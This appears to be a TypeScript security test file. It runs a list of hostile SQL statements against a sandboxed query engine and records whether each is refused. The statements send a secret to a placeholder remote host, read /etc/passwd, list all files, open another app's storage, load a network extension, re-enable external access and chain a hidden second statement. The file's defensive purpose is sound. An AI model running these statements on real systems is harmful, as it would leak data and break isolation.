import type { Attack, AttackOutcome } from '../core/attack.ts';
import type { SqlEngine } from '../core/engine.ts';
import { messageOf } from '../core/error.ts';
import { somewhere } from './somewhere.ts';

interface SqlAttempt {
  readonly id: string;
  readonly title: string;
  readonly code: string;
}

const attempts: readonly SqlAttempt[] = [
  {
    id: 'sql-request',
    title: 'Send a value along with a request',
    code: `SELECT * FROM read_csv('${somewhere}?secret=42')`,
  },
  {
    id: 'sql-upload',
    title: 'Write a result to another machine',
    code: `COPY (SELECT 42 AS secret) TO '${somewhere}secret.csv'`,
  },
  {
    id: 'sql-file',
    title: 'Read a file of this device',
    code: "SELECT content FROM read_text('/etc/passwd')",
  },
  { id: 'sql-list', title: 'List the files of this device', code: "SELECT file FROM glob('/**')" },
  {
    id: 'sql-attach',
    title: 'Open the saved data of another app',
    code: "ATTACH 'opfs://other.db' AS other",
  },
  { id: 'sql-extension', title: 'Load an extension that can speak to the network', code: 'INSTALL httpfs' },
  { id: 'sql-unlock', title: 'Unlock the engine', code: 'SET enable_external_access = true' },
  {
    id: 'sql-chain',
    title: 'Hide a second statement behind a harmless one',
    code: `SELECT 1; ATTACH '${somewhere}' AS other`,
  },
  { id: 'sql-write', title: 'Change what is stored', code: 'CREATE TABLE stolen AS SELECT 42 AS secret' },
];

/** Asked of the engine that answers questions, in the way in which they are asked. */
export function sqlAttacks(engine: SqlEngine): readonly Attack[] {
  return attempts.map((each) => ({ ...each, runner: 'sql', attempt: () => ask(engine, each.code) }));
}

async function ask(engine: SqlEngine, sql: string): Promise<AttackOutcome> {
  // It must be the attack that is refused, not the engine that is broken.
  await engine.query('SELECT 42');
  try {
    const { rows } = await engine.query(sql);
    return { kind: 'through', got: `${rows.length} rows` };
  } catch (error) {
    return { kind: 'stopped', said: firstLine(error) };
  }
}

function firstLine(error: unknown): string {
  const [line = ''] = messageOf(error).split('\n');
  return line;
}
